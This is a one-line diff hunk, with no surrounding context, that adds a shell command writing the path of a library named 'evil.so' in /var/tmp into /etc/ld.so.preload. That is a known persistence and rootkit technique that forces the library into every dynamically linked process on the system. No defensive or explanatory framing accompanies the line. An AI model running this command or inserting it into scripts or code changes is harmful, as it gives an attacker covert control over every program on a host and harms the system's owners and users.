@@ -1,0 +1,1 @@
+echo /var/tmp/evil.so >/etc/ld.so.preload
